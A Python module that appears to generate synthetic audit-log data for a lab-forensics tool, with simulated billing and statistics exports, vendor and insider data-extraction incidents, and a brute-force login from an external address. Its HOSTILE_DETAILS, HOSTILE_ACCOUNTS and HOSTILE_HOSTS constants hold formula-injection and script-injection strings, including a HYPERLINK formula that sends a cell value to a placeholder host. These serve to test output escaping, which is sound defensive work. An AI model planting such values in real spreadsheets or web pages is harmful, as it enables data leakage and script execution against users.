"""One lab's events: routine activity, benign traps, incidents, service accounts, hostile text.

:func:`build_lab` returns the lab's events as one unsorted block, the tags
(incidents and traps) they carry and the extractions made (incident a, and
the requested reference extraction). Every random draw comes from ``lab.rng``
in a fixed order, so a seed gives the same events.
"""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, field

import numpy as np

from .._arrays import unique_sorted
from .activity import failed_typos, hotline_activity, interface_events, nightly_job, staff_activity
from .clock import DAY, date_of, day_number, dst_bounds, iso_utc
from .incidents import (
    S,
    Special,
    Tag,
    is_change_day,
    migration_extraction,
    pick_open_day,
    session_block,
)
from .model import (
    MIGRATION,
    MIGRATION_PLACE,
    A,
    Block,
    Lab,
    ev_cat,
    local_to_utc,
    setup_patients,
    setup_staff,
)
from .plan import remove_overlaps
from .variants import build_variant

__all__ = ["build_lab", "HOSTILE_DETAILS", "HOSTILE_ACCOUNTS", "HOSTILE_HOSTS"]

HOSTILE_DETAILS = (
    '=HYPERLINK("http://x.example/?"&A1;"ok")',
    "@SUM(1+1)",
    "-5.2",
    "+33 2 99 00 00 00",
    'http://h.example/?q=a"b',
    "</td><script>alert(1)</script>",
    'Valeur corrigée; ancien: 5,2\nnouveau: 5,4 — l’unité reste g/L, coût 15€ "urgent"',
)
HOSTILE_ACCOUNTS = ("<img src=x onerror=alert(1)>", "@SUM(1+1)")
HOSTILE_HOSTS = ("cost $x^2$ \\$HOME", "</td><script>alert(1)</script>")


@dataclass
class _Build:
    """What the builders of one lab share: the lab, its staff, the explicit sessions, the tags."""

    lab: Lab
    staff: dict
    d0: int
    d1: int
    n2: int  # first session number of the explicit sessions
    sp: Special = field(default_factory=Special)
    tags: list[Tag] = field(default_factory=list)
    extra: dict = field(default_factory=lambda: {"extractions": []})

    def tag(self, **kw) -> int:
        self.tags.append(Tag(lab=self.lab.code, **kw))
        return len(self.tags) - 1


def build_lab(
    lab: Lab,
    lp: dict,
    scale: float,
    d0: int,
    d1: int,
    artefacts: bool,
    hostile_truth: list[dict],
    requested: bool = False,
    variant_rng: np.random.Generator | None = None,
    session_events: float = 1.0,
) -> tuple[Block, list[Tag], dict]:
    """All events of one lab (unsorted block), the tags they carry, and its extractions.

    Parameters
    ----------
    lab : Lab
        With its calendar set (:func:`labforensics.synth.model.setup_calendar`).
    lp : dict
        The lab's entry of :func:`labforensics.synth.plan.plan_labs` (``a_day``,
        ``b``, ``c``, ``d``, ``hostile``).
    scale : float
        Activity multiplier.
    d0, d1 : int
        First and last day (day numbers).
    artefacts : bool
        Archive days and spring-forward shifts of the nightly job.
    hostile_truth : list of dict
        Appended to when the lab carries hostile text.
    requested : bool
        Also the requested reference extraction (trap ``migration_request``).
    variant_rng : numpy.random.Generator, optional
        The variant's stream for this lab, when ``lp`` carries a ``variant``
        (:mod:`labforensics.synth.variants`); its operations, tags and register
        rows (``extra["register"]``, ``extra["ops"]``) are added.
    session_events : float, default 1.0
        Density of the staff's day sessions
        (:func:`labforensics.synth.activity.staff_activity`).

    Returns
    -------
    (Block, list of Tag, dict)
        The events, the tags, and ``{"extractions": [...], "requested": [...]}``.
    """
    staff = setup_staff(lab, scale)
    setup_patients(lab, scale)
    ev_staff = staff_activity(lab, staff, session_events)
    n1 = int(ev_staff["sess"].max()) + 1 if len(ev_staff["sess"]) else 0
    ev_hot = hotline_activity(lab, scale, n1)
    n2 = int(ev_hot["sess"].max()) + 1 if len(ev_hot["sess"]) else n1
    routine = ev_cat([ev_staff, ev_hot])
    b = _Build(lab=lab, staff=staff, d0=d0, d1=d1, n2=n2)
    _billing(b)
    _statistics(b)
    if requested and d0 + 25 < lab.migration <= d1:
        _requested(b)
    if lp.get("variant") is not None:
        assert variant_rng is not None
        build_variant(b, lp, routine, variant_rng)
    if lp["a_day"] is not None:
        _incident_a(b, lp["a_day"])
    if lp["b"]:
        _incident_b(b)
    if lp["c"]:
        _incident_c(b)
    if lp["d"]:
        _incident_d(b)
    routine = remove_overlaps(routine, b.sp.windows)
    people = ev_cat([routine, ev_cat(b.sp.blocks)])
    if lp["hostile"]:
        _hostile(lab, staff, people, hostile_truth, b.tags)
    backup_code = "EXPORT"
    if lp.get("variant") and "backup_extraction" in lp["variant"]["components"]:
        backup_code = "EXTRACTION"
    ev = _service_accounts(b, people, artefacts, backup_code)
    return ev, b.tags, b.extra


def _billing(b: _Build) -> None:
    """Benign trap: the monthly billing export, early each month."""
    lab, rng = b.lab, b.lab.rng
    n_vis = lab.ve - lab.vs
    od_month = lab.od.astype("datetime64[D]").astype("datetime64[M]")
    months = unique_sorted(lab.days.astype("datetime64[D]").astype("datetime64[M]"))
    acc = int(b.staff["SECRETAIRE"][0][0])
    for mth in months.tolist():
        m64 = np.datetime64(mth, "M")
        first = int(m64.astype("datetime64[D]").astype(np.int64))
        day = pick_open_day(lab, first + 1, first + 8, rng=rng)
        if day is None:
            continue
        prev = n_vis[od_month == m64 - 1].sum()
        nb = int(max(prev * rng.integers(6, 10), rng.integers(1000, 1600)))
        label = str(m64 - 1)
        ti = b.tag(
            id=f"billing-{lab.code}-{label}",
            group="trap",
            kind="billing",
            account=lab.accounts[acc].name,
            role="SECRETAIRE",
            info={"period": label, "records": nb},
        )
        t0 = int(local_to_utc(day, 34200 + int(rng.integers(0, 3600))))
        session_block(
            lab, b.sp, acc, t0,
            [S(0, "ADMIN", "CONNEXION"),
             S(rng.integers(30, 240), "FACTURATION", "RECHERCHE", nb=nb, det=f"Actes facturables {label}"),
             S(rng.integers(30, 300), "FACTURATION", "EXPORT", nb=nb, vol=nb * int(rng.integers(180, 260)),
               det=f"Export facturation {label} vers télétransmission"),
             S(rng.integers(60, 600), "ADMIN", "DECONNEXION")],
            ti, sess_base=b.n2,
        )  # fmt: skip


def _statistics(b: _Build) -> None:
    """Benign trap: the yearly statistics extraction, in January."""
    lab, rng = b.lab, b.lab.rng
    n_vis = lab.ve - lab.vs
    admin = int(b.staff["ADMIN_LABO"][0][0])
    for y in sorted({date_of(int(d)).year for d in lab.days}):
        first = day_number(dt.date(y, 1, 10))
        day = pick_open_day(lab, first, first + 10, rng=rng)
        if day is None:
            continue
        yr = lab.od.astype("datetime64[D]").astype("datetime64[Y]").astype(np.int64) + 1970
        nb = int(max(n_vis[yr == y - 1].sum(), rng.integers(2000, 3000)))
        ti = b.tag(
            id=f"statistics-{lab.code}-{y - 1}",
            group="trap",
            kind="statistics",
            account=lab.accounts[admin].name,
            role="ADMIN_LABO",
            info={"period": str(y - 1), "records": nb},
        )
        t0 = int(local_to_utc(day, 50400 + int(rng.integers(0, 7200))))
        session_block(
            lab, b.sp, admin, t0,
            [S(0, "ADMIN", "CONNEXION"),
             S(rng.integers(30, 240), "EXTRACTION", "RECHERCHE", nb=nb, det=f"Activité {y - 1}"),
             S(rng.integers(60, 900), "EXTRACTION", "EXTRACTION", nb=nb, vol=nb * int(rng.integers(60, 120)),
               det=f"Statistiques annuelles {y - 1} vers \\\\SRV-{lab.code}\\stats\\stats_{y - 1}.xlsx (anonymisées)"),
             S(rng.integers(60, 600), "ADMIN", "DECONNEXION")],
            ti, sess_base=b.n2,
        )  # fmt: skip


def _requested(b: _Build) -> None:
    """Trap: the extraction the vendor was asked for (reference tables), weeks before migrating."""
    lab, rng = b.lab, b.lab.rng
    day = pick_open_day(lab, lab.migration - 40, lab.migration - 20, rng=rng)
    if day is None:
        return
    macc = lab.add_account(MIGRATION, "EDITEUR", 1, *MIGRATION_PLACE)
    ymd = str(np.datetime64(day, "D")).replace("-", "")
    fname = f"{lab.code}_referentiel_{ymd}.csv"
    nb = int(rng.integers(300, 1500))
    vol = nb * int(rng.integers(80, 200))
    ti = b.tag(
        id=f"migration_request-{lab.code}",
        group="trap",
        kind="migration_request",
        account=MIGRATION,
        role="EDITEUR",
        info={"file": fname, "records": nb, "bytes": vol},
    )
    t0 = int(local_to_utc(day, 36000 + int(rng.integers(0, 14400))))
    rq = session_block(
        lab, b.sp, macc, t0,
        [S(0, "ADMIN", "CONNEXION"),
         S(rng.integers(60, 300), "EXTRACTION", "EXTRACTION", nb=nb, vol=vol,
           det=f"Extraction référentiel analyses vers ftp://transfert/{fname}"),
         S(rng.integers(60, 600), "ADMIN", "DECONNEXION")],
        ti, sess_base=b.n2,
    )  # fmt: skip
    b.extra["requested"] = [
        {"file": fname, "records": nb, "bytes": vol, "t_extract": int(rq["t"][1]), "day": day}
    ]


def _incident_a(b: _Build, day: int) -> None:
    """Incident (a): the migration account extracts every registered patient at night."""
    lab = b.lab
    ti = b.tag(
        id=f"a-{lab.code}",
        group="incident",
        kind="a",
        vector="vendor",
        account="migration.editeur",
        role="EDITEUR",
    )
    x = migration_extraction(lab, b.sp, day, ti, b.n2)
    b.tags[ti].info = {
        "file": x["file"],
        "records": x["records"],
        "bytes": x["bytes"],
        "migration_date": str(date_of(lab.migration)),
        "registered_before": x["records"],
        "horizon": iso_utc(x["t_extract"]),
    }
    b.extra["extractions"].append(x)


def _incident_b(b: _Build) -> None:
    """Incident (b): low-and-slow exports by the shared vendor hotline account."""
    lab, rng, d0, d1 = b.lab, b.lab.rng, b.d0, b.d1
    width = min(42, max(7, (d1 - d0) // 2))
    b0 = d0 + int(rng.integers(0, max(1, d1 - d0 - width)))
    acc = lab.add_account("hotline.editeur", "EDITEUR", 1, "TS-EDITEUR-01", "172.16.10.11")
    ti = b.tag(
        id=f"b-{lab.code}",
        group="incident",
        kind="b",
        vector="vendor",
        account=lab.accounts[acc].name,
        role="EDITEUR",
    )
    host, ip = lab.hosts("PC-HOTLINE-23"), lab.ips("172.16.30.77")
    days = [
        d for d in lab.od[(lab.od >= b0) & (lab.od < b0 + width)].tolist() if not is_change_day(d)
    ]
    pick = [d for d in days if rng.random() < 0.45] or days[:3]
    total = 0
    for day in pick:
        t0 = int(local_to_utc(day, 66600 + int(rng.integers(0, 7200))))
        steps = [
            S(0, "ADMIN", "CONNEXION"),
            S(rng.integers(30, 200), "SAISIE", "RECHERCHE", nb=rng.integers(20, 200)),
        ]
        for _ in range(1 + int(rng.random() < 0.5)):
            nb = int(rng.integers(15, 120))
            total += nb
            steps.append(S(rng.integers(30, 400), "RESULTATS", "EXPORT", nb=nb, vol=nb * int(rng.integers(300, 600)),
                           det="Export liste patients (CSV)"))  # fmt: skip
        if rng.random() < 0.8:
            steps.append(S(rng.integers(30, 300), "ADMIN", "DECONNEXION"))
        session_block(lab, b.sp, acc, t0, steps, ti, host=host, ip=ip, sess_base=b.n2)
    b.tags[ti].info = {"exported_records": total, "sessions": len(pick), "src_ip": "172.16.30.77"}


def _incident_c(b: _Build) -> None:
    """Incident (c): failed logins from a new external address, then a login and an export."""
    lab, rng, d0, d1 = b.lab, b.lab.rng, b.d0, b.d1
    secs = b.staff["SECRETAIRE"][0]
    acc = int(secs[int(rng.integers(len(secs)))])
    day = pick_open_day(lab, d0 + (d1 - d0) // 5, d1 - 1, rng=rng) or int(lab.od[-1])
    ip_s = f"203.0.113.{int(rng.integers(2, 250))}"
    host_s = f"DESKTOP-{int(rng.integers(0, 16**6)):06X}"
    host, ip = lab.hosts(host_s), lab.ips(ip_s)
    ti = b.tag(id=f"c-{lab.code}", group="incident", kind="c", vector="external", account=lab.accounts[acc].name,
               role=lab.accounts[acc].role)  # fmt: skip
    t0 = int(local_to_utc(day, 77400 + int(rng.integers(0, 5400))))
    nf = int(rng.integers(15, 40))
    fails = [
        S(0 if i == 0 else rng.integers(2, 15), "ADMIN",
          "ECHEC_CONNEXION" if rng.random() < 0.6 else "CONNEXION", ok=False, det="Mot de passe incorrect")
        for i in range(nf)
    ]  # fmt: skip
    fb = session_block(lab, b.sp, acc, t0, fails, ti, host=host, ip=ip, sess=False)
    nb = int(rng.integers(2000, 8000))
    steps = [
        S(0, "ADMIN", "CONNEXION"),
        S(rng.integers(20, 120), "SAISIE", "RECHERCHE", nb=nb, det="Recherche tous patients"),
    ]
    for _ in range(1 + int(rng.random() < 0.5)):
        steps.append(S(rng.integers(30, 300), "RESULTATS", "EXPORT", nb=nb, vol=nb * int(rng.integers(300, 600)),
                       det="Export résultats (CSV)"))  # fmt: skip
    fb["fsess"][:] = b.sp.n_sess + b.n2  # the failures precede the attacker's session
    t1 = int(fb["t"][-1]) + int(rng.integers(20, 120))
    session_block(lab, b.sp, acc, t1, steps, ti, host=host, ip=ip, sess_base=b.n2)
    b.tags[ti].info = {
        "src_ip": ip_s,
        "host": host_s,
        "failed_logins": nf,
        "day": str(date_of(day)),
    }


def _incident_d(b: _Build) -> None:
    """Incident (d): a staff member browsing hundreds of unrelated patients over a few days."""
    lab, rng, d0, d1 = b.lab, b.lab.rng, b.d0, b.d1
    pool = np.concatenate([b.staff["TECHNICIEN"][0], b.staff["SECRETAIRE"][0]])
    acc = int(pool[int(rng.integers(len(pool)))])
    width = min(30, max(10, (d1 - d0) // 2))
    b0 = d0 + int(rng.integers(0, max(1, d1 - d0 - width)))
    days = [
        d
        for d in lab.od[(lab.od >= b0) & (lab.od < b0 + width) & ~lab.od_sat].tolist()
        if not is_change_day(d)
    ]
    pick = sorted(rng.permutation(days)[:8].tolist()) if days else []
    ti = b.tag(id=f"d-{lab.code}", group="incident", kind="d", vector="insider", account=lab.accounts[acc].name,
               role=lab.accounts[acc].role)  # fmt: skip
    total = 0
    for day in pick:
        nreg = lab.registered_before(day)
        m = int(rng.integers(30, 70))
        total += m
        pats = rng.integers(0, max(nreg, 1), m)
        steps = [S(0, "ADMIN", "CONNEXION")]
        steps += [
            S(rng.integers(10, 90), "RESULTATS", "CONSULTATION", pat=p) for p in pats.tolist()
        ]
        steps.append(S(rng.integers(20, 200), "ADMIN", "DECONNEXION"))
        t0 = int(local_to_utc(day, 44100 + int(rng.integers(0, 1800))))
        session_block(lab, b.sp, acc, t0, steps, ti, sess_base=b.n2)
    b.tags[ti].info = {"consultations": total, "days": [str(date_of(d)) for d in pick]}


def _service_accounts(
    b: _Build, people: Block, artefacts: bool, backup_code: str = "EXPORT"
) -> Block:
    """Interfaces, the nightly job and failed-login typos added to the people's events."""
    lab, rng, d0, d1 = b.lab, b.lab.rng, b.d0, b.d1
    iface = interface_events(lab, people)
    ti_if = b.tag(id=f"interface-{lab.code}", group="trap", kind="interface", account="hprim.emission",
                  role="INTERFACE", info={"accounts": ["automate01", "hprim.emission"]})  # fmt: skip
    iface["inc"][:] = ti_if
    arch_days = np.zeros(0, np.int64)
    if artefacts:
        n_arch = max(1, len(lab.days) // 180)
        arch_days = np.sort(rng.choice(lab.days, size=min(n_arch, len(lab.days)), replace=False))
    night = nightly_job(lab, b.n2 + b.sp.n_sess, arch_days, backup_code)
    ti_n = b.tag(id=f"nightly_job-{lab.code}", group="trap", kind="nightly_job", account="batch.nuit",
                 role="INTERFACE", info={"host": f"SRV-{lab.code}"})  # fmt: skip
    night["inc"][:] = ti_n
    if artefacts:  # some legacy spring-forward nights written by a clock not yet switched
        for y in sorted({date_of(int(d)).year for d in lab.days}):
            sp_t = dst_bounds(y)[0]
            if d0 <= sp_t // DAY <= d1 and sp_t // DAY < lab.migration and rng.random() < 0.6:
                w = (night["t"] >= sp_t) & (night["t"] < sp_t + 3600)
                night["shift"][w] = True
    typos = failed_typos(lab, people)
    return ev_cat([people, iface, night, typos])


def _hostile(lab: Lab, staff: dict, ev: Block, hostile_truth: list[dict], tags: list[Tag]) -> None:
    """Hostile text in two account names, two host names and a few comments (recorded in truth)."""
    rng = lab.rng
    tech = staff["TECHNICIEN"][0]
    prel = staff["PRELEVEUR"][0]
    changes = [
        ("account", int(tech[0]), HOSTILE_ACCOUNTS[0]),
        ("account", int(prel[0]), HOSTILE_ACCOUNTS[1]),
        ("host", int(staff["SECRETAIRE"][0][0]), HOSTILE_HOSTS[0]),
        ("host", int(staff["BIOLOGISTE"][0][0]), HOSTILE_HOSTS[1]),
    ]
    for fld, acc, value in changes:
        a = lab.accounts[acc]
        if fld == "account":
            for tg in tags:  # ground truth names the account as written
                if tg.account == a.name:
                    tg.account = value
            del lab.acc_index[a.name]
            a.name = value
            lab.acc_index[value] = acc
        else:
            old = a.host
            a.host = lab.hosts(value)
            ev["host"][(ev["acc"] == acc) & (ev["host"] == old)] = a.host
        hostile_truth.append({"lab": lab.code, "field": fld, "value": value, "account": a.name})
    cand = np.flatnonzero((ev["act"] == A["MODIFICATION"]) & (ev["inc"] < 0))
    for value in HOSTILE_DETAILS:
        if not len(cand):
            break
        w = rng.choice(cand, size=min(3, len(cand)), replace=False)
        ev["det"][w] = lab.details(value)
        hostile_truth.append({"lab": lab.code, "field": "detail", "value": value, "account": ""})
